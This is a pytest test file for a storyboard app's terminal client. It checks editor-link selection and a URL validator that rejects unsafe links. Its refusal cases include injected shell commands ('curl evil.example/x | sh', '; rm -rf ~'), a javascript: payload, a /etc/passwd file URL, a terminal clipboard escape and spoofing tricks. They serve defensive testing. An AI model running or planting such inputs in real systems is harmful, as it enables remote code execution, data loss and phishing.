"""Editor links per storyboard state, and which URLs may be opened."""

from __future__ import annotations

import pytest

from yike_tui.core.links import MAX_URL_LENGTH, check_url, editor_url, open_url
from yike_tui.core.models import Storyboard

EDIT = "https://www.yikeai.com/#/storyboard/editing?storyboardId="
ENTITIES = "https://www.yikeai.com/#/storyboard/entitiesManagement?storyboardId="


@pytest.mark.parametrize(
    ("status", "sub_status", "expected"),
    [
        ("Configuring", "Parsing", None),
        ("Configuring", "ParseSucc", ENTITIES),
        ("Editing", "Creating", ENTITIES),
        ("Editing", "CreateFailed", ENTITIES),
        ("Editing", "CreateSucc", EDIT),
        ("Produced", "ProduceSucc", EDIT),
        ("", "", None),
        ("Mystery", "Whatever", None),
    ],
)
def test_editor_page_follows_the_storyboard_state(
    status: str, sub_status: str, expected: str | None
) -> None:
    url = editor_url(Storyboard("st_1", status=status, sub_status=sub_status))
    assert url == (None if expected is None else expected + "st_1")


def test_a_storyboard_only_known_as_succeeded_opens_the_editing_page() -> None:
    assert editor_url(Storyboard("st_9", succeeded=True)) == EDIT + "st_9"


def test_hostile_ids_cannot_reshape_the_url() -> None:
    url = editor_url(Storyboard("x&y=1#/z \x1b", sub_status="CreateSucc"))
    assert url == EDIT + "x%26y%3D1%23%2Fz%20%1B"
    assert editor_url(Storyboard("", sub_status="CreateSucc")) is None


class Opener:
    def __init__(self, result: bool = True) -> None:
        self.result = result
        self.urls: list[str] = []

    def __call__(self, url: str) -> bool:
        self.urls.append(url)
        return self.result


def test_open_only_http_and_https() -> None:
    opener = Opener()
    for bad in ("file:///etc/passwd", "javascript:alert(1)", "ftp://x/y", "https://", "http://a b"):
        with pytest.raises(ValueError):
            open_url(bad, env={"DISPLAY": ":0"}, opener=opener)
    assert opener.urls == []


def test_open_passes_the_exact_url_and_hides_the_query_in_the_message() -> None:
    opener = Opener()
    url = "https://bucket.oss.test/out.mp4?Expires=1&Signature=secret"
    message = open_url(url, env={"DISPLAY": ":0"}, platform="linux", opener=opener)
    assert opener.urls == [url]
    assert "secret" not in message and message.startswith("opened")
    assert "no browser" in open_url(url, env={"BROWSER": "x"}, opener=Opener(False))


def test_no_text_browser_inside_our_own_terminal() -> None:
    opener = Opener()
    message = open_url(
        EDIT + "st_1", env={"SSH_TTY": "/dev/pts/0"}, platform="linux", opener=opener
    )
    assert opener.urls == [] and "copy the link" in message
    assert open_url(EDIT + "st_1", env={}, platform="darwin", opener=opener).startswith("opened")


# --- the one link rule for copy, report and open ----------------------

SIGNED = (
    "https://b.oss-cn-shanghai.aliyuncs.com/out/v.mp4?Expires=1&OSSAccessKeyId=STS.x"
    "&Signature=a%2Bb%3D&security-token=" + "T" * 1400
)


@pytest.mark.parametrize(
    "url",
    [
        SIGNED,
        "http://127.0.0.1:8000/media/j/out.mp4?Expires=1&Signature=x",
        EDIT + "st_1",
        "https://例え.jp/雨巷.mp4",
        "https://b.oss.test/o.mp4?…",  # a cached link with its query cut
    ],
)
def test_well_formed_links_pass_unchanged(url: str) -> None:
    assert check_url(url) == url


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("https://b.test/o.mp4\ncurl evil.example/x | sh", "spaces, line breaks or control"),
        ("https://b.test/o.mp4\rx", "spaces, line breaks or control"),
        ("https://b.test/o.mp4 ; rm -rf ~", "spaces, line breaks or control"),
        ("https://b.test/o.mp4\tx", "spaces, line breaks or control"),
        ("https://b.test/\u2028x", "spaces, line breaks or control"),
        ("https://b.test/\x1b]52;c;eA==\x07", "spaces, line breaks or control"),
        ("https://b.test/\u202egpj.exe", "spaces, line breaks or control"),
        ("https://b.test/\u200bx", "spaces, line breaks or control"),
        ("https://b.test/\x85x", "spaces, line breaks or control"),
        ("https://b.test/\ud800", "spaces, line breaks or control"),
        ("javascript:alert(1)//https://b.test", "only http and https"),
        ("file:///etc/passwd", "only http and https"),
        ("b.test/o.mp4", "only http and https"),
        ("https://", "no host"),
        ("https:///o.mp4", "no host"),
        ("https://trusted.example@evil.example/o.mp4", "names a user"),
        ("https://b.test:99999999/o.mp4", "not a well-formed URL"),
        ("http://[::1/o.mp4", "not a well-formed URL"),
        ("https://b.test/" + "a" * MAX_URL_LENGTH, "characters long"),
    ],
)
def test_anything_else_is_refused_with_a_one_line_reason(url: str, why: str) -> None:
    with pytest.raises(ValueError, match=why) as caught:
        check_url(url)
    assert "\n" not in str(caught.value)
